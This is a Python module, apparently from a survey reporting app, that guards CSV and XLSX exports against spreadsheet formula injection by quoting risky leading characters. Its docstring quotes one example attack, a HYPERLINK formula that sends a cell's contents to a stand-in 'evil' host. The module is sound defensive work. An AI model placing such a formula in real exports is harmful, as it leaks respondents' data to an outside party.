"""Make a cell safe to open in a spreadsheet: text never becomes a formula.

A respondent's words (a quote, a free-text answer), a reference from the case system
or any other text we did not compute may begin with a character that Excel, LibreOffice
or Google Sheets reads as the start of a formula: ``=HYPERLINK("http://evil/?"&A1)``
in a carer's answer would run on the manager's machine when the export is opened. The
OWASP CSV-injection guidance: a text cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is written with a single quote ``'`` in front, so that every
program shows it as text. The same prefix goes into an XLSX string cell, so a workbook
re-saved as CSV stays safe.

One function, ``spreadsheet_cell``, serves every CSV and XLSX writer (the report
downloads and ``haveyoursay report``, the subject access export). Numbers, dates,
booleans and None pass through unchanged: a figure we computed (a mean, a sentiment
of -0.5) stays a number. Pure: no Flask, no database.
"""

from __future__ import annotations

import re
from typing import TypeVar

# OWASP's list, plus a line feed: a spreadsheet that trims a field's leading line break
# would otherwise see the formula behind it.
FORMULA_STARTS = frozenset("=+-@\t\r\n")
# Whitespace a spreadsheet may trim before it looks for a formula (" =1+1" in LibreOffice
# with "trim spaces" on). Checked past it, so "  =SUM(A1)" is quoted too.
_LEADING_SPACE = " \t\r\n\u00a0\u3000"
# Characters XML 1.0 cannot hold: openpyxl refuses them (IllegalCharacterError) and Word
# cannot open a document with them. Dropped from XLSX and DOCX text, never from CSV.
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")

T = TypeVar("T")


def starts_formula(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula (it begins, past spaces, with = + - @ tab CR LF)."""
    if not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip(_LEADING_SPACE)
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def xml_text(text: str) -> str:
    """``text`` without the control characters XML cannot hold (for XLSX and DOCX)."""
    return _NOT_XML.sub("", text)


def spreadsheet_cell(value: T, *, xlsx: bool = False) -> T | str:
    """The value to write in a CSV or XLSX cell: text that could start a formula gets a ``'`` in front.

    ``xlsx``: also drop the characters an XLSX file cannot hold (openpyxl would refuse
    the whole workbook). Anything that is not text (numbers, dates, None) is returned as it is.
    """
    if not isinstance(value, str):
        return value
    text = xml_text(value) if xlsx else value
    return "'" + text if starts_formula(text) else text
